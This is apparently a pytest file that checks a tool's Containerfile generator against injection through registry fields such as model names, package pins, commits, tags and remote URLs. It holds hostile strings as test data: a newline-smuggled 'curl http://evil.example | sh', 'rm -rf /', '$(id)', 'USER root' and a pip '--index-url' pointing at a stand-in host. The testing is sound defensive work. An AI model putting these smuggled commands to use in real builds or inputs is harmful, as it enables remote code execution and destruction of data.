"""`funade build` writes a Containerfile from what the registry recorded (issue 22, item 1): a
model name, recorded package versions, a git commit or remote, a tag or a base image carrying
newlines or Containerfile/shell metacharacters can neither add an instruction nor change one.
Each value is validated against the shape it must have, or written as a JSON string or an
escaped label; BuildKit's own parser reads the result back."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from funade.errors import InvalidInputError, InvalidNameError, UnknownFlavorError
from funade.images.containerfile import version_build
from tests.cli.conftest import Result
from tests.images.dockerfiles import labels, parse
from tests.images.records import COMMIT, record

INJECTIONS = [
    "x\nRUN curl http://evil.example | sh",
    "x\r\nUSER root",
    'x" \\\nRUN id',
    "x$(id)",
    "x`id`",
    "x; rm -rf /",
    "x && id",
    "x\u2028RUN id",
]
CLEAN = [c.cmd for c in parse(version_build(record(), funade_version="0.1.0").containerfile)]


def _build(**changes: Any) -> str:
    return version_build(record(**changes), funade_version="0.1.0").containerfile


@pytest.mark.parametrize("hostile", INJECTIONS)
def test_a_hostile_model_name_is_refused(hostile: str) -> None:
    with pytest.raises(InvalidNameError, match=r"Model name .* is not allowed") as info:
        _build(model="churn" + hostile)
    assert info.value.field == "model"


@pytest.mark.parametrize("hostile", INJECTIONS)
def test_hostile_recorded_requirements_are_refused(hostile: str) -> None:
    with pytest.raises(InvalidInputError, match="is not a distribution name") as info:
        _build(manifest={"requirements": {"numpy" + hostile: "2.1.3"}})
    assert info.value.field == f"manifest.requirements.numpy{hostile}"
    with pytest.raises(InvalidInputError, match="is not a version") as info:
        _build(manifest={"requirements": {"numpy": "2.1.3" + hostile}})
    assert info.value.field == "manifest.requirements.numpy"
    assert "will not write it into a Containerfile" in str(info.value)


@pytest.mark.parametrize(
    "pin", ["2.1 --index-url http://evil.example", "2.1;python_version>'3'", "2.1 @ file:///x"]
)
def test_a_pin_cannot_carry_pip_options_or_markers(pin: str) -> None:
    with pytest.raises(InvalidInputError, match="is not a version"):
        _build(manifest={"requirements": {"numpy": pin}})


@pytest.mark.parametrize(
    "commit", [*("0123456789abcdef" + h for h in INJECTIONS), "main", "0123456\n", "G" * 40]
)
def test_a_commit_that_is_not_a_commit_id_is_refused(commit: str) -> None:
    with pytest.raises(InvalidInputError, match="is not a git commit id") as info:
        _build(lineage={"git": {"commit": commit}})
    assert info.value.field == "lineage.git.commit"


@pytest.mark.parametrize("hostile", INJECTIONS)
def test_a_hostile_tag_or_base_is_refused(hostile: str) -> None:
    with pytest.raises(InvalidInputError, match="is not an image name") as info:
        version_build(record(), funade_version="0.1.0", tag="churn:3" + hostile)
    assert info.value.field == "--tag"
    with pytest.raises(InvalidInputError, match="is not an image name") as info:
        version_build(record(), funade_version="0.1.0", base="python:3.11-slim" + hostile)
    assert info.value.field == "--base"


@pytest.mark.parametrize("hostile", INJECTIONS)
def test_a_hostile_project_cannot_reach_a_fetching_image(hostile: str) -> None:
    with pytest.raises(InvalidNameError, match="Project name") as info:
        version_build(record(project="default" + hostile), funade_version="0.1.0", fetch=True)
    assert info.value.field == "project"


def test_a_hostile_flavor_or_digest_is_refused() -> None:
    with pytest.raises(UnknownFlavorError):
        _build(flavor="sklearn\nRUN id")
    with pytest.raises(InvalidInputError, match="is not a digest") as info:
        _build(artifact={"digest": "sha256:" + "a" * 63 + "\nRUN id", "size": 1})
    assert info.value.field == "artifact.digest"


@settings(max_examples=200, deadline=None)
@given(st.text(min_size=1, max_size=60))
def test_a_remote_url_is_one_label_whatever_it_holds(remote: str) -> None:
    """The remote URL is the one free text that reaches the file: quoted, or left out."""
    commands = parse(_build(lineage={"git": {"commit": COMMIT, "remote_url": remote}}))
    found = labels(commands)
    if "org.opencontainers.image.source" in found:
        assert found["org.opencontainers.image.source"] == remote
        assert [c.cmd for c in commands] == CLEAN
    else:  # control characters: the label is left out, nothing else changes
        assert any(ord(ch) < 32 or ch in "\x7f\u2028\u2029" for ch in remote)
        without = list(CLEAN)
        without.remove("LABEL")
        assert [c.cmd for c in commands] == without


def test_quotes_and_dollars_in_a_remote_url_are_not_expanded() -> None:
    remote = 'https://h.example/a"b $HOME ${PATH} \\ `id`'
    commands = parse(_build(lineage={"git": {"commit": COMMIT, "remote_url": remote}}))
    assert labels(commands)["org.opencontainers.image.source"] == remote
    assert [c.cmd for c in commands] == CLEAN


def test_a_hostile_ref_at_the_command_line_is_refused(
    cli: Callable[..., Result], tmp_path: Path
) -> None:
    out = tmp_path / "ctx"
    done = cli("build", "calc\nRUN id", "--containerfile-only", str(out))
    assert done.code == 2
    assert "Model name 'calc\\nRUN id' is not allowed" in done.err
    assert not out.exists()


def test_a_label_value_with_a_control_character_is_refused_even_past_the_checks() -> None:
    """Belt and braces: every label value is checked before this, but the quoting refuses a
    newline itself."""
    from funade.images.containerfile import _quote

    assert _quote('a"b$c\\', "k") == '"a\\"b\\$c\\\\"'
    with pytest.raises(InvalidInputError, match="holds a control character") as info:
        _quote("a\nLABEL x=y", "dev.funade.model")
    assert info.value.field == "dev.funade.model"
